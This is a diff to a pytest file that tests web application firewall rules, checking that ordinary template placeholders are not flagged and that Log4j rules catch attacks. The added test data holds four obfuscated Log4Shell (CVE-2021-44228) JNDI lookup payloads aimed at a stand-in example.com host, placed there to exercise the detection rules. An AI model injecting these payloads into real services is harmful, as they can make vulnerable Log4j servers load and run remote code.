@@ -121,3 +121,25 @@ def test_documented_example_in_a_header_matches_the_header_rule() -> None:
 @pytest.mark.parametrize("rule", ["Log4JRCE_HEADER", "ExploitablePaths_URIPATH"])
 def test_web_acl_blocks_with_the_label(rule: str) -> None:
     check_blocks(GROUP, BY_RULE[rule], LABEL[rule])
+
+
+# Template and shell placeholders share the ${ of Log4j lookups but are no lookup.
+PLACEHOLDERS = ["${date}", "${FORMAT:-json}", "Hello ${name}, order ${id}", "${HOME}/bin", "${amount:0.00}"]
+OBFUSCATED = [  # Log4Shell spellings published with CVE-2021-44228 write-ups
+    "${${::-j}${::-n}${::-d}${::-i}:rmi://example.com/a}",
+    "${${env:BARFOO:-j}ndi:ldap://example.com/a}",
+    "${j${::-n}di:ldap://example.com/a}",
+    "${jndi:${lower:l}dap://example.com/a}",
+]
+
+
+@pytest.mark.parametrize("value", PLACEHOLDERS)
+def test_placeholders_are_no_log4j_lookup(value: str) -> None:
+    body = '{"template": "' + value + '"}'
+    assert labels(GROUP, request("/t", method="POST", headers=JSON, body=body)) == ()
+
+
+@pytest.mark.parametrize("value", OBFUSCATED)
+def test_obfuscated_lookups_match(value: str) -> None:
+    body = '{"user": "' + value + '"}'
+    assert LABEL["Log4JRCE_BODY"] in labels(GROUP, request("/login", method="POST", headers=JSON, body=body))
